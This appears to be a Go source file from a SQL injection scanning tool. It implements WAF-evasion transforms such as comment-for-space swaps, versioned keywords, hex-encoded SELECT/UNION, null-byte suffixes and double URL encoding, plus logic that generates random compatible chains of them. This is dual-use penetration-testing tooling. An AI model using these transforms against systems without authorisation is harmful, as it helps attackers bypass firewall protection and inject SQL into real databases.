// Package tamper contains the WAF-evasion string transforms and the two
// strategies that learn which chains of them get payloads past a WAF: an
// epsilon-greedy bandit for cheap online selection during scanning, and a
// budgeted model-based optimizer for deeper per-parameter exploitation.
package tamper

import (
	"math/rand"
	"regexp"
	"strings"

	"github.com/0xf61/sqlhound/api/schemas"
)

// Func is a single tamper transform. Every Func is pure, total, and safe
// to compose in any order; applying one twice never corrupts the payload.
type Func func(string) string

var (
	reVersioned  = regexp.MustCompile(`(?i)\b(UNION|SELECT)\b`)
	reHexSelect  = regexp.MustCompile(`(?i)\bSELECT\b`)
	reHexUnion   = regexp.MustCompile(`(?i)\bUNION\b`)
	reSplitUnion = regexp.MustCompile(`(?i)\bunion\b`)
	reSplitSel   = regexp.MustCompile(`(?i)\bselect\b`)
	reSubstring  = regexp.MustCompile(`(?i)\bsubstring\b`)
	reBenchmark  = regexp.MustCompile(`(?i)\bbenchmark\b`)
	reKeywords   = regexp.MustCompile(`(?i)\b(SELECT|UNION|AND|OR|FROM)\b`)
)

func spaceToComment(p string) string { return strings.ReplaceAll(p, " ", "/**/") }

func randomCase(p string) string {
	var b strings.Builder
	b.Grow(len(p))
	for _, c := range p {
		if rand.Intn(2) == 0 {
			b.WriteString(strings.ToUpper(string(c)))
		} else {
			b.WriteString(strings.ToLower(string(c)))
		}
	}
	return b.String()
}

func equalToLike(p string) string { return strings.ReplaceAll(p, "=", " LIKE ") }

func spaceToRandomBlank(p string) string {
	blanks := []string{"%09", "%0a", "%0b", "%0c", "%0d"}
	var b strings.Builder
	for _, c := range p {
		if c == ' ' {
			b.WriteString(blanks[rand.Intn(len(blanks))])
		} else {
			b.WriteRune(c)
		}
	}
	return b.String()
}

func versionedKeywords(p string) string {
	return reVersioned.ReplaceAllString(p, "/*!50000$1*/")
}

func keywordSubstitution(p string) string {
	p = strings.ReplaceAll(p, " AND ", "&&")
	return strings.ReplaceAll(p, " OR ", "||")
}

func hexEncodeKeywords(p string) string {
	p = reHexSelect.ReplaceAllString(p, "0x53454c454354")
	return reHexUnion.ReplaceAllString(p, "0x554e494f4e")
}

func addNullByte(p string) string {
	if strings.HasSuffix(p, "%00") {
		return p
	}
	return p + "%00"
}

func splitKeywords(p string) string {
	p = reSplitUnion.ReplaceAllStringFunc(p, func(m string) string { return m[:2] + "/**/" + m[2:] })
	return reSplitSel.ReplaceAllStringFunc(p, func(m string) string { return m[:3] + "/**/" + m[3:] })
}

func functionSynonyms(p string) string {
	p = reSubstring.ReplaceAllString(p, "MID")
	return reBenchmark.ReplaceAllString(p, "SLEEP")
}

func commentAroundKeywords(p string) string {
	return reKeywords.ReplaceAllString(p, "/*$1*/")
}

func charDoubleEncode(p string) string {
	var b strings.Builder
	for i := 0; i < len(p); i++ {
		b.WriteString("%25")
		b.WriteString(strings.ToLower(hexByte(p[i])))
	}
	return b.String()
}

func hexByte(c byte) string {
	const digits = "0123456789abcdef"
	return string([]byte{digits[c>>4], digits[c&0x0f]})
}

// Functions is the lookup table of tamper transforms by name.
var Functions = map[string]Func{
	"space2comment":         spaceToComment,
	"randomcase":            randomCase,
	"equaltolike":           equalToLike,
	"space2randomblank":     spaceToRandomBlank,
	"versionedkeywords":     versionedKeywords,
	"keywordsubstitution":   keywordSubstitution,
	"hexencodekeywords":     hexEncodeKeywords,
	"addnullbyte":           addNullByte,
	"splitkeywords":         splitKeywords,
	"functionsynonyms":      functionSynonyms,
	"commentaroundkeywords": commentAroundKeywords,
	"chardoubleencode":      charDoubleEncode,
}

// MutuallyExclusive groups transforms that must not appear in the same
// chain; competing encodings stack into garbage.
var MutuallyExclusive = [][]string{
	{"chardoubleencode", "hexencodekeywords"},
	{"space2comment", "space2randomblank"},
}

// Names returns all registered tamper names in stable order.
func Names() []string {
	names := make([]string, 0, len(Functions))
	for _, n := range []string{
		"space2comment", "randomcase", "equaltolike", "space2randomblank",
		"versionedkeywords", "keywordsubstitution", "hexencodekeywords",
		"addnullbyte", "splitkeywords", "functionsynonyms",
		"commentaroundkeywords", "chardoubleencode",
	} {
		if _, ok := Functions[n]; ok {
			names = append(names, n)
		}
	}
	return names
}

// Apply runs the chain's transforms over the payload in order. Unknown
// names are skipped rather than failing the probe.
func Apply(payload string, chain schemas.TamperChain) string {
	for _, name := range chain {
		if fn, ok := Functions[name]; ok {
			payload = fn(payload)
		}
	}
	return payload
}

// Compatible reports whether a chain avoids every mutually exclusive
// pairing. The selector uses it to prune incompatible combinations.
func Compatible(chain schemas.TamperChain) bool {
	for _, group := range MutuallyExclusive {
		seen := 0
		for _, name := range chain {
			for _, g := range group {
				if name == g {
					seen++
				}
			}
		}
		if seen > 1 {
			return false
		}
	}
	return true
}

// Permute produces up to n random compatible chains, each of which
// re-signs the base payload into a distinct variation. Returning the
// chains rather than the rendered strings lets callers attribute any
// reward to the chain that earned it.
func Permute(base string, n, maxLen int) []schemas.TamperChain {
	if maxLen <= 0 {
		maxLen = 3
	}
	names := Names()
	seen := make(map[string]struct{}, n)
	out := make([]schemas.TamperChain, 0, n)
	for i := 0; i < n*3 && len(out) < n; i++ {
		depth := 1 + rand.Intn(maxLen)
		chain := make(schemas.TamperChain, 0, depth)
		for j := 0; j < depth; j++ {
			chain = append(chain, names[rand.Intn(len(names))])
		}
		if !Compatible(chain) {
			continue
		}
		v := Apply(base, chain)
		if _, dup := seen[v]; dup || v == base {
			continue
		}
		seen[v] = struct{}{}
		out = append(out, chain)
	}
	return out
}
